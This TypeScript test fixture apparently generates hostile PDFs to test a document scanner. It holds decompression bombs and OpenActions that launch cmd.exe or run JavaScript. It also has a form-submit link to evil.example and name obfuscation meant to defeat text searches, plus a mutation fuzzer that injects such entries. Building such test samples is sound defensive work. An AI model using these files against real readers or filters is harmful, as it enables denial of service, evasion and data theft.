import { deflateSync } from 'node:zlib';

type Body = string | Buffer;

/** The first object is the catalogue. */
function pdfOf(objects: readonly Body[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let length = parts[0]!.length;
  const add = (body: Body) => {
    const bytes = Buffer.from(body as string);
    parts.push(bytes);
    length += bytes.length;
  };
  objects.forEach((body, index) => {
    places.push(length);
    add(`${index + 1} 0 obj\n`);
    add(body);
    add('\nendobj\n');
  });
  const start = length;
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`);
  for (const place of places) add(`${String(place).padStart(10, '0')} 00000 n \n`);
  add(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
}

export const streamOf = (entries: string, bytes: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`<<${entries}/Length ${bytes.length}>>\nstream\n`), bytes, Buffer.from('\nendstream')]);

export function pageWith({ catalog = '', page = '', more = [] as readonly Body[] }): Buffer {
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>${page}>>`,
    streamOf('', Buffer.from('BT /F1 14 Tf 20 150 Td (Certificado laboral) Tj ET')),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...more,
  ]);
}

const firstMore = 6;

const megabytes = (amount: number) => Buffer.alloc(amount * 1024 * 1024, 0x20);
let packed: Buffer | undefined;
const packedOnce = () => (packed ??= deflateSync(megabytes(200)));
const packedTwice = () => deflateSync(packedOnce());

/** Small files that need excessive memory or time to parse. Most hide the cause from a text search. */
export const bombs: Readonly<Record<string, () => Buffer>> = {
  'an escaped name and its filter twice': () =>
    pageWith({ more: [streamOf('/Type/Obj#53tm/N 1/First 4/Filter[/FlateDecode/FlateDecode]', packedTwice())] }),
  'a stream that only a text shows': () =>
    pageWith({
      more: [streamOf('/Type/ObjStm/N 1/First 4/Note(stream)/Filter[/FlateDecode/FlateDecode]', packedTwice())],
    }),
  'its filters by reference': () =>
    pageWith({
      more: ['[/FlateDecode/FlateDecode]', streamOf(`/Type/ObjStm/N 1/First 4/Filter ${firstMore} 0 R`, packedTwice())],
    }),
  'its type by reference': () =>
    pageWith({
      more: ['/ObjStm', streamOf(`/Type ${firstMore} 0 R/N 1/First 4/Filter/FlateDecode`, packedOnce())],
    }),
  'a cross-reference stream of a thousand million entries': () =>
    pageWith({
      more: [
        streamOf('/Type/X#52ef/Size 1000000000/W[1 2 1]/Root 1 0 R/Filter/FlateDecode', deflateSync(megabytes(60))),
      ],
    }),
  'contents that unpack twice': () =>
    pageWith({
      page: `/Contents ${firstMore} 0 R`,
      more: [streamOf('/Filter[/FlateDecode/FlateDecode]', packedTwice())],
    }),
  'arrays in arrays without end': () => pageWith({ more: ['['.repeat(200_000)] }),
};

/** Each type is an indirect reference, so a text search does not find the type beside its key. */
export const hiddenActions: Readonly<Record<string, Buffer>> = {
  'a script action whose type is an indirect reference': pageWith({
    catalog: `/OpenAction<</S ${firstMore} 0 R>>`,
    more: ['/JavaScript'],
  }),
  'a launch action whose type is an indirect reference': pageWith({
    catalog: `/OpenAction<</S ${firstMore} 0 R/F(cmd.exe)>>`,
    more: ['/Launch'],
  }),
  'a launch action whose type is a reference to a reference': pageWith({
    catalog: `/OpenAction<</S ${firstMore} 0 R/F(cmd.exe)>>`,
    more: [`${firstMore + 1} 0 R`, '/L#61unch'],
  }),
  'an annotation whose subtype is an indirect reference': pageWith({
    page: `/Annots[<</Type/Annot/Rect[0 0 9 9]/Subtype ${firstMore} 0 R>>]`,
    more: ['/FileAttachment'],
  }),
  'a link with a submit action whose type is an indirect reference': pageWith({
    page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S ${firstMore} 0 R/F(https://evil.example)>>>>]`,
    more: ['/Submit#46orm'],
  }),
};

export const ordinaryPdf = (): Buffer =>
  pageWith({
    catalog: '/OpenAction[3 0 R/Fit]/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>/AcroForm<</Fields[8 0 R]>>',
    page:
      '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://banco.example)>>>> 8 0 R]' +
      '/Metadata 10 0 R/Tabs/S',
    more: [
      '<</Type/OCG/Name(Capa)>>',
      streamOf(
        '/Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F1 5 0 R>>>>/OC 6 0 R/Filter/FlateDecode',
        deflateSync(Buffer.from('BT /F1 9 Tf 2 5 Td (Laura) Tj ET')),
      ),
      '<</Type/Annot/Subtype/Widget/FT/Tx/T(nombre)/V(Laura)/Rect[20 20 220 60]/F 4/AP<</N 7 0 R>>>>',
      '<</Type/Filespec>>',
      streamOf('/Type/Metadata/Subtype/XML', Buffer.from('<x:xmpmeta>Laura Secreta</x:xmpmeta>')),
    ],
  });

/** `pick(n)` returns a number below n. */
type Mutation = (text: string, pick: (among: number) => number) => string;

const letters = /\/[A-Za-z]{2,}/g;
const insertions = [
  '/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
  '/A<</S/URI/URI(https://evil.example)>>',
  '/OpenAction<</S/Launch/F(cmd.exe)>>',
  '/OC 6 0 R',
  '/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>',
  '/Kids[3 0 R 3 0 R 2 0 R]',
  '/Filter[/ASCIIHexDecode/FlateDecode/FlateDecode/RunLengthDecode]',
  '/Length 4000000000',
  '/Resources 3 0 R',
  '/Type/ObjStm/N 90000000/First 2',
];

const at = (text: string, expression: RegExp, pick: (among: number) => number, change: (found: string) => string) => {
  const found = [...text.matchAll(expression)];
  const one = found[pick(Math.max(1, found.length))];
  return one ? text.slice(0, one.index) + change(one[0]) + text.slice(one.index + one[0].length) : text;
};

export const mutations: readonly Mutation[] = [
  (text, pick) => {
    const place = pick(text.length);
    return text.slice(0, place) + String.fromCharCode(pick(256)) + text.slice(place + 1);
  },
  (text, pick) =>
    at(text, letters, pick, (name) => {
      const place = 1 + pick(name.length - 1);
      const hex = name.charCodeAt(place).toString(16);
      return `${name.slice(0, place)}#${pick(2) ? hex.toUpperCase() : hex}${name.slice(place + 1)}`;
    }),
  (text, pick) => {
    let moved = '';
    const number = 100 + pick(900);
    const changed = at(text, /(?<=\/[A-Za-z]+) ?\/[A-Za-z]{2,}/g, pick, (value) => {
      moved = `${number} 0 obj\n${value}\nendobj\n`;
      return ` ${number} 0 R`;
    });
    return changed.replace(/\nxref\n/, `\n${moved}xref\n`);
  },
  (text, pick) => at(text, /\/Filter ?\/FlateDecode/g, pick, () => '/Filter[/FlateDecode/FlateDecode]'),
  (text, pick) => at(text, /<</g, pick, () => `<<${insertions[pick(insertions.length)]}`),
  (text, pick) => {
    const place = pick(text.length);
    return text.slice(0, place) + text.slice(place, place + pick(300)).repeat(2) + text.slice(place);
  },
];

/** Each step is a mutation and the seed of its choices. */
export function mutated(bytes: Buffer, steps: readonly (readonly [number, number])[]): Buffer {
  let text = bytes.toString('latin1');
  for (const [which, seed] of steps) {
    let state = seed;
    const pick = (among: number) => {
      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
      return (state >>> 8) % among;
    };
    text = mutations[which % mutations.length]!(text, pick);
  }
  return Buffer.from(text, 'latin1');
}
